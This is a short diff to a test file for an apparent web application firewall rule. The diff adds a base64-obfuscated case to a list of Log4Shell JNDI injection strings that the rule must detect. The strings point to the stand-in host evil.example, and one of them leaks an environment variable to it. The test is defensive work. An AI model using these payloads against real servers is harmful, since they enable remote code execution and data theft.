@@ -19,6 +19,7 @@ test('resolves obfuscated lookups to jndi:', () => {
     '${jndi:ldap://${env:USER}.evil.example/a}',
     '  ${ jndi:ldap://evil.example',
     '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
+    '${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}',
   ];
   for (const a of attacks) {
     assert.ok(matchAll(rules, a).includes('944150'), `missed ${a}`);
